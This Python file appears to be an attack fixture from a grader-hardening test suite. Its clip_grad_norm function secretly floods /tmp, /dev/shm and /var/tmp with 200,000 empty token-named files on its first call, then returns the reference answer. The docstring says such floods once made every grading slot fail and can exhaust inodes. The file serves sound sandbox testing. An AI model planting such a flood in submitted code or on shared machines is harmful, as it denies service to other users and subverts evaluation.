"""Attack: clip_grad_norm floods the shared temporary folders with empty files, in its first call:
200,000 at the top of /tmp, /dev/shm and /var/tmp where it can write. They hold no byte, so only a
count of entries stops it; every later search of those folders would have to look at each, which
once made a slot's scrub give up (the slot, then every slot, unusable: everyone's grade an
internal error), and enough of them fill the file system's inodes. Every file carries TOKEN in its
name, so that the test can check that none survives. It answers correctly only if it made them
all and was still running afterwards."""
import os

import attack_kit as kit
import ref_clipping
from ref_clipping import *  # noqa: F401,F403

SHARED = ("/tmp", "/dev/shm", "/var/tmp")
COUNT = 200_000


def _flood():
    made = 0
    for top in SHARED:
        for i in range(COUNT):
            try:
                os.close(os.open(os.path.join(top, f"{kit.TOKEN}-{i}"), os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o600))
            except OSError:
                break
            made += 1
    return made >= COUNT


def clip_grad_norm(grads, max_norm):
    won = kit.once("tmp_flood", _flood)
    return kit.oracle(won, ref_clipping.clip_grad_norm, grads, max_norm)
